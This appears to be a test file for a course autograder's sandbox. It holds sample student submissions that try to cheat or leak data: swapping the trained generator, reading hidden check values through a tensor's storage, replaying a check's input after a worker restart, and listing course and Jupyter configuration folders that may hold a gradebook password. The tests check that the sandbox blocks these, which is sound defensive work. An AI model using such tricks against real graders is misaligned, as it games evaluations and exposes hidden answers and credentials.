    assert points == 0 and "is built from reference.models.conditional.ConditionalGenerator, the course library's" in message, message


def test_a_learning_run_swapped_by_a_cell_still_trains_the_students_generator(tmp_path):
    from pathlib import Path

    from conftest import notebook_with_cells
    from reference.grading.runner import grade_notebook
    from reference.grading.sandbox import Limits, sandbox_problem

    frozen = '''
class DeeperGenerator(nn.Module):
    def __init__(self, nz=100, ngf=64):
        super().__init__()
        layers = list(Generator(nz, ngf, channels=1, size=28).main)
        block = [nn.Conv2d(ngf, ngf, 3, 1, 1, bias=False), nn.BatchNorm2d(ngf), nn.ReLU(True)]
        self.main = nn.Sequential(*layers[:10], *block, *layers[10:])
        self.apply(weights_init)
        self.requires_grad_(False)

    def forward(self, z):
        return self.main(z)

import reference.grading.learning as _L
from reference.models import dcgan as _dcgan
_start = _L.start_training
_L.start_training = lambda G, D, images, **kw: _start(_dcgan.Generator(100, 16, 1, 28), D, images, **kw)
'''
    root = Path(__file__).resolve().parents[1]
    solution = root / "solutions" / "a2_conv_layers" / "a2_conv_layers.ipynb"
    source = nbformat.read(solution, as_version=4)
    gid = next(c.metadata["nbgrader"]["grade_id"] for c in source.cells
               if c.metadata.get("nbgrader", {}).get("solution") and "class DeeperGenerator" in c.source)
    path = notebook_with_cells(solution, tmp_path, {gid: frozen})
    points, message = grade_notebook(path, "a2_conv_layers", root, limits=Limits(wall_s=300), sandbox=sandbox_problem() is None,
                                     only=["test_learns"])["test_learns"]
    assert points == 0 and "requires grad" in message, message


def test_a_reply_whose_pickle_is_flagged_encrypted_is_a_protocol_error():
    """A zip record flagged encrypted makes Python's zipfile raise RuntimeError, which escaped the reply's checks:
    the grader's decode raised RuntimeError (and a3's checkpoint check stopped) instead of refusing the reply."""
    import io
    import zipfile

    import torch

    from reference.grading.proxy import ProtocolError, decode

    saved = io.BytesIO()
    torch.save({"value": torch.arange(5.0)}, saved)
    data = bytearray(saved.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        record = next(info for info in archive.infolist() if info.filename.endswith("data.pkl"))
    data[record.header_offset + 6] |= 1  # the local header's "encrypted" flag
    at = bytes(data).find(b"PK\x01\x02")
    while at >= 0:  # and the directory entry's
        length = int.from_bytes(data[at + 28:at + 30], "little")
        if bytes(data[at + 46:at + 46 + length]).endswith(b"data.pkl"):
            data[at + 8] |= 1
        at = bytes(data).find(b"PK\x01\x02", at + 4)
    with pytest.raises(ProtocolError, match="unreadable reply"):
        decode(bytes(data))


# ---------------------------------------------------------------------------------------------
# What a check's tensor argument carries into the worker
# ---------------------------------------------------------------------------------------------

VIEW_CHECKS = '''"""A check that passes the submission a slice of a tensor of its own: only the slice may cross."""
import torch

from reference.grading import check

ASSIGNMENT = "attack"
HIDDEN = torch.arange(1_000_000, dtype=torch.float32) * 0.5 + 7.0  # the check's own numbers (held-out inputs, answers)


@check(points=1)
def test_slice(submission):
    seen = submission.get("peek")(HIDDEN[10:12])
    assert seen["elements"] == [12.0, 12.5], seen
    assert seen["stored"] == 2 and seen["hidden"] is None, f"the submission read {seen['stored']:,} stored numbers: {seen['hidden']}"
'''
VIEW_PEEK = '''
import torch


def peek(x):
    whole = torch.empty(0, dtype=x.dtype).set_(x.untyped_storage())  # every number the argument's storage holds
    return {"elements": x.tolist(), "stored": whole.numel(), "hidden": float(whole[-1]) if whole.numel() > x.numel() else None}
'''


def test_a_slice_a_check_passes_carries_only_its_own_numbers(tmp_path, monkeypatch):
    """torch.save writes a view's whole storage: a check that passed the student's function `HIDDEN[10:12]` sent all
    1,000,000 numbers of HIDDEN (4 MB), and the function read the last of them through `x.untyped_storage()`. A
    tensor crosses to the worker as its own elements only."""
    result = graded_attack(tmp_path, monkeypatch, VIEW_CHECKS, VIEW_PEEK)["checks"]["test_slice"]
    assert result["earned"] == 1.0, result["message"]


def test_a_tensor_argument_crosses_as_its_own_elements_with_its_shape():
    """What `_wire` sends: a slice, a transposed slice, an expanded slice and one element as copies of their elements
    (their values and shapes kept); a tensor that is its whole storage as it is."""
    import io

    import torch

    from reference.grading.proxy import Channel, encode

    wire = Channel(-1, -1, lambda timeout=False: "", lambda: 0.0)._wire
    big = torch.arange(100.0).reshape(10, 10)
    for view in (big[2:4], big[:, 3:5].t(), big[1:2, :3].expand(4, 3), big[5, 5]):
        sent = torch.load(io.BytesIO(encode(wire(view))), weights_only=True)
        assert torch.equal(sent, view) and sent.untyped_storage().nbytes() == view.numel() * view.element_size(), view
    own = torch.ones(3, 4)
    assert wire(own).untyped_storage().data_ptr() == own.untyped_storage().data_ptr()


# ---------------------------------------------------------------------------------------------
# A check's inputs kept in scratch and printed by the restarted worker's cells
# ---------------------------------------------------------------------------------------------

REPLAY_CHECKS = '''"""Two hidden checks: the first gives the submission an input of its own; the second runs in a restarted worker."""
from reference.grading import check

ASSIGNMENT = "attack"


@check(points=1)
def test_a_hidden_input(submission):
    submission.get("keep")("hidden input 31337")


@check(points=1)
def test_b_after_the_restart(submission):
    submission.get("keep")
'''
REPLAY = '''
import os

if os.path.exists("kept.txt"):  # the restarted worker: say what the last check gave, and end before any check runs
    os.write(2, ("KEPT " + open("kept.txt").read() + "\\n").encode())  # below sys.stdout: the worker's own output
    os._exit(4)


def keep(x):
    with open("kept.txt", "w") as f:
        f.write(repr(x))
    os._exit(3)
'''


def test_a_checks_input_kept_in_scratch_is_not_quoted_when_the_restarted_worker_exits(tmp_path, monkeypatch):
    """Output is quoted only while the cells run (test_what_a_worker_prints_as_a_check_runs_does_not_reach_the_feedback),
    but a worker started again after a check ran its cells with quoting on: a submission wrote the check's input into
    its scratch folder and exited, and its restarted worker's cells printed the file and exited, so the next check's
    message quoted the input. A restarted worker's output is never quoted."""
    record = graded_attack(tmp_path, monkeypatch, REPLAY_CHECKS, REPLAY)
    checks = record["checks"]
    assert [checks[name]["earned"] for name in sorted(checks)] == [0.0, 0.0], checks
    second = checks["test_b_after_the_restart"]["message"]
    assert "exited (status 4)" in second, second
    assert "31337" not in json.dumps(record), record["stopped"]


# ---------------------------------------------------------------------------------------------
# A data root that holds the course
# ---------------------------------------------------------------------------------------------

READ_COURSE = """
import os
for path in ({checks!r}, {course!r}, {data_file!r}):
    try:
        print(path, "->", sorted(os.listdir(path)) if os.path.isdir(path) else open(path).read()[:40])
    except OSError as err:
        print(path, "->", type(err).__name__)
"""


@needs_sandbox
def test_a_data_root_that_holds_the_course_does_not_show_the_course_to_the_sandbox(tmp_path, monkeypatch):
    """The data root (GAN_COURSE_DATA) is bound read-only into the sandbox; one that holds the course folder
    (GAN_COURSE_DATA=/srv/gan with the course in /srv/gan/course, or the instructor's home) showed the sandbox the
    hidden checks, the model answers, the gradebook and every classmate's submission. The course is hidden below it,
    as below a bound Python environment, and the data stays readable."""
    root_of = tmp_path / "course"
    (tmp_path / "MNIST").mkdir()
    (tmp_path / "MNIST" / "raw.txt").write_text("digits")
    monkeypatch.setenv("GAN_COURSE_DATA", str(tmp_path))
    checks = root_of / "tests" / "autograders" / "test_attack.py"
    _, text, _ = run_cell(tmp_path, monkeypatch, READ_COURSE.format(checks=str(checks), course=str(root_of),
                                                                    data_file=str(tmp_path / "MNIST" / "raw.txt")))
    lines = dict(line.split(" -> ", 1) for line in text.splitlines() if " -> " in line)
    assert lines[str(tmp_path / "MNIST" / "raw.txt")] == "digits", text
    assert lines[str(checks)] in ("FileNotFoundError", "PermissionError"), text
    assert lines[str(root_of)] in ("[]", "['reference']", "FileNotFoundError", "PermissionError"), text


# ---------------------------------------------------------------------------------------------
# Configuration the bound environments bring: Jupyter's and nbgrader's
# ---------------------------------------------------------------------------------------------

LIST_CONFIG = """
import os
for folder in {folders!r}:
    try:
        print(folder, "->", sorted(os.listdir(folder)))
    except OSError as err:
        print(folder, "->", type(err).__name__)
"""


@needs_sandbox
def test_the_configuration_of_the_bound_environments_is_not_shown_to_the_sandbox(tmp_path, monkeypatch):
    """The sandbox sees /usr and the grading Python environment whole, and with them the folders Jupyter reads its
    configuration from (sys.prefix/etc/jupyter, /usr/local/etc/jupyter): an instructor's nbgrader_config.py there may
    name the gradebook's database with its password (c.CourseDirectory.db_url), which a cell could print into its
    feedback (a cell listed the environment's etc/jupyter).
    Each environment's etc/ and /usr/local/etc are empty and read-only in the sandbox; torch still imports."""
    import sys

    from reference.grading.sandbox import _config_folders, _python_binds, _system_binds

    folders = [f"{sys.prefix}/etc", f"{sys.prefix}/etc/jupyter", "/usr/local/etc"]
    hidden = _config_folders(_system_binds() + _python_binds())
    assert "/usr/local/etc" in hidden or not Path("/usr/local/etc").is_dir()
    _, text, _ = run_cell(tmp_path, monkeypatch, LIST_CONFIG.format(folders=folders) + "import torch\nprint('torch', torch.ones(2).sum().item())")
    lines = dict(line.split(" -> ", 1) for line in text.splitlines() if " -> " in line)
    for folder in folders:
        assert lines[folder] in ("[]", "FileNotFoundError"), (folder, lines[folder])
    assert "torch 2.0" in text, text
